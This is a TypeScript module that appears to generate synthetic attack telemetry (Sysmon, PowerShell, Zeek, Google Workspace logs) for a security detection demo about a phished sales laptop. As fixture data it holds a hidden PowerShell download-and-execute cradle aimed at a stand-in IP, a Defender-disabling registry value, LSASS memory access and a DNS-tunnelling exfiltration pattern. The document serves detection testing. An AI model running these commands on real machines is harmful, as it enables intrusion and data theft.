import { files } from "../company/accounts.ts";
import { lanDomain, servers, windowsDomain } from "../company/offices.ts";
import { people, personNamed } from "../company/people.ts";
import { type DemoEvent, hourMs, minuteMs } from "../event.ts";
import { workspace } from "../formats/google.ts";
import { zeek } from "../formats/network.ts";
import { processStarted, windows } from "../formats/windows.ts";
import { randomOf } from "../random.ts";
import type { Story } from "./story.ts";

const elif = personNamed("Elif Kaya");
const system32 = "C:\\Windows\\System32\\";
const powershell = `${system32}WindowsPowerShell\\v1.0\\powershell.exe`;
const dropped = `C:\\Users\\${elif.account}\\AppData\\Local\\Temp\\OneDriveSync.exe`;
const tunnelDomain = "cdn-metrics.example";

/**
 * Elif of sales opens what looks like a tender. The laptop runs hidden PowerShell, gives up the passwords in its memory,
 * reaches for the file server, and carries drawings out, first inside DNS questions and then openly through Drive.
 */
export const infectedLaptop: Story = {
  name: "The infected laptop",
  daysBefore: 2,
  startUtcHour: 12.9,
  raises: [
    "Windows.EventLogs.MshtaStartsInterpreter",
    "Windows.EventLogs.PowerShellEncodedCommand",
    "Windows.EventLogs.PowerShellRunsDownload",
    "Windows.EventLogs.VirusProtectionDisabled",
    "Windows.EventLogs.LsassMemoryRead",
    "Zeek.Kerberos.WeakServiceTickets",
    "Zeek.RDP.ManyConnections",
    "Windows.EventLogs.AuditLogCleared",
    "Zeek.DNS.Tunnel",
    "GSuite.ActivityEvent.FilesDownloadedInBulk",
    "GSuite.ActivityEvent.FileSharedOutside",
  ],
  events: (startMs) => {
    const at = (minutes: number) => startMs + minutes * minuteMs;
    return [...onTheLaptop(at), ...throughTheNetwork(at), ...tunnel(startMs + 5 * hourMs), ...throughDrive(at)];
  },
};

type Clock = (minutes: number) => number;

function onTheLaptop(at: Clock): DemoEvent[] {
  const host = elif.laptop;
  const user = elif.account;
  const encoded = Buffer.from(
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.88/t')",
    "utf16le",
  ).toString("base64");
  const ScriptBlockText = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.88/t')";
  const protection =
    "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring";
  const tender = `mshta.exe "C:\\Users\\${user}\\Downloads\\Tender 4471.hta"`;
  const sysmon = (minutes: number, id: number, fields: Record<string, unknown>) =>
    windows({
      atMs: at(minutes),
      host,
      channel: "Sysmon",
      id,
      fields: { User: `${windowsDomain}\\${user}`, ...fields },
      notable: true,
    });
  return [
    processStarted({
      atMs: at(0),
      host,
      user,
      image: `${system32}mshta.exe`,
      commandLine: tender,
      parent: "C:\\Windows\\explorer.exe",
    }),
    processStarted({
      atMs: at(0.1),
      host,
      user,
      image: powershell,
      commandLine: `powershell.exe -nop -w hidden -enc ${encoded}`,
      parent: `${system32}mshta.exe`,
      notable: true,
    }),
    windows({
      atMs: at(0.2),
      host,
      channel: "PowerShell",
      id: 4104,
      fields: { User: `${windowsDomain}\\${user}`, ScriptBlockText, MessageNumber: "1", MessageTotal: "1" },
      notable: true,
    }),
    sysmon(3, 11, { Image: powershell, TargetFilename: dropped }),
    sysmon(9, 13, { Image: dropped, TargetObject: protection, Details: "DWORD (0x00000001)" }),
    sysmon(17, 10, {
      SourceImage: dropped,
      TargetImage: `${system32}lsass.exe`,
      GrantedAccess: "0x1410",
      CallTrace: "UNKNOWN(00000218A1F0)",
    }),
  ];
}

function throughTheNetwork(at: Clock): DemoEvent[] {
  const neighbours = people.filter((person) => person.office === "berlin" && person !== elif);
  const services = [
    "MSSQLSvc/erp",
    "HTTP/intranet",
    "MSSQLSvc/plm",
    "cifs/backup",
    "HTTP/wiki",
    "MSSQLSvc/timesheets",
    "ldap/old-dc",
  ];
  const client = `${elif.account}/${lanDomain.toUpperCase()}`;
  const tickets = services.map((service, i) =>
    zeek({
      atMs: at(34 + i * 0.1),
      log: "kerberos",
      from: elif.lanIp,
      to: servers.domainController.ip,
      toPort: 88,
      fields: {
        request_type: "TGS",
        client,
        service,
        success: true,
        cipher: "rc4-hmac",
        forwardable: true,
        renewable: true,
      },
      notable: i === 6,
    }),
  );
  const desktops = neighbours.slice(0, 18).map((neighbour, i) =>
    zeek({
      atMs: at(58 + i * 0.4),
      log: "rdp",
      from: elif.lanIp,
      to: neighbour.lanIp,
      toPort: 3389,
      fields: { cookie: "svc-backup", result: "encrypted", security_protocol: "HYBRID", cert_count: 0 },
      notable: i === 15,
    }),
  );
  const logon = {
    TargetUserName: "svc-backup",
    TargetDomainName: windowsDomain,
    LogonType: "10",
    IpAddress: elif.lanIp,
  };
  const fileServer = servers.files.host;
  return [
    ...tickets,
    ...desktops,
    windows({ atMs: at(74), host: fileServer, channel: "Security", id: 4624, fields: logon }),
    windows({
      atMs: at(131),
      host: fileServer,
      channel: "Security",
      id: 1102,
      fields: { SubjectUserName: "svc-backup", Message: "The audit log was cleared." },
      notable: true,
    }),
  ];
}

/** 400 questions in an hour and a half, each with forty-odd characters of a drawing in its name. */
function tunnel(startMs: number): DemoEvent[] {
  const random = randomOf("tunnel");
  const question = {
    proto: "udp",
    qclass: 1,
    qclass_name: "C_INTERNET",
    qtype: 16,
    qtype_name: "TXT",
    rcode: 0,
    rcode_name: "NOERROR",
    rejected: false,
  };
  return Array.from({ length: 400 }, (_, i) =>
    zeek({
      atMs: startMs + Math.floor(i * 0.22 * minuteMs),
      log: "dns",
      from: elif.lanIp,
      to: servers.domainController.ip,
      toPort: 53,
      fields: { ...question, query: `${random.hex(46)}.${i}.${tunnelDomain}`, answers: ["TXT 2 ok"] },
      notable: i === 35,
    }),
  );
}

function throughDrive(at: Clock): DemoEvent[] {
  const document = (i: number) => ({
    doc_title: files[i % files.length],
    doc_id: `1a${i}`,
    doc_type: "pdf",
    visibility: "shared_internally",
  });
  const ip = "203.0.113.88";
  const downloads = Array.from({ length: 64 }, (_, i) =>
    workspace({
      atMs: at(1120 + i * 0.25),
      person: elif,
      application: "drive",
      type: "access",
      name: "download",
      parameters: document(i),
      ip,
      notable: i === 52,
    }),
  );
  const opened = { ...document(0), visibility: "people_with_link", old_visibility: "private" };
  const share = {
    application: "drive",
    type: "acl_change",
    name: "change_document_visibility",
    parameters: opened,
  } as const;
  return [...downloads, workspace({ atMs: at(1141), person: elif, ...share, ip, notable: true })];
}
